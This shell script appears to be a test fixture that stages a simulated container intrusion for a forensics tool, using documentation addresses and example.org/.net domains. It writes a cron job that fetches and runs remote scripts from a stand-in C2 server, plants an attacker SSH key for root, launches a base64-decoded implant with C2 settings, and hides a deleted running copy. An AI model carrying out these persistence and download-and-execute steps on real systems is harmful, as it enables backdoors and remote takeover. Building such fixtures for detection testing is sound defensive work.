# The container of make-fixture.sh's "intrusion" scenario (busybox sh; make-fixture.sh puts
# IMPLANT=<base64 of kworkerd> before it): what an intruder leaves behind, every address and
# name a documentation one (RFC 5737 addresses, example.org/.net domains).
echo "cfw: container started"
mkdir -p /tmp/.cache /root/.ssh /var/tmp
# persistence: download and run a stage every 10 minutes, a fallback by name
echo "*/10 * * * * root wget -q -O /tmp/.cache/s2 http://203.0.113.66:8080/stage2.sh && sh /tmp/.cache/s2 || wget -q -O- https://cdn.cfw-c2.example.net/fallback.sh | sh" > /etc/cron.d/cfw-update
# access: the operator's key
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINUu6gSAWO4uHuJoLVJ8IJzDg4YCJ9kvMQ5Ka3SNrDAr operator@c2.cfw-intrusion.example.org" > /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
# the implant, dropped in a hidden directory and run with its C2 on the command line and in its environment
echo "$IMPLANT" | base64 -d > /tmp/.cache/kworkerd
chmod 755 /tmp/.cache/kworkerd
C2_HOST=c2.cfw-intrusion.example.org /tmp/.cache/kworkerd --c2 203.0.113.66:4444 &
# a second copy, run and then deleted: its bytes survive only as the running process's executable
cp /tmp/.cache/kworkerd /var/tmp/.sshd-helper
/var/tmp/.sshd-helper -k &
sleep 1
rm /var/tmp/.sshd-helper
rm /etc/cfw-motd
echo "cfw: beacon to 198.51.100.23:53 and mirror https://files.cfw-c2.example.net/pkg.tar.gz, contact ops@cfw-c2.example.net"
while :; do sleep 3600; done
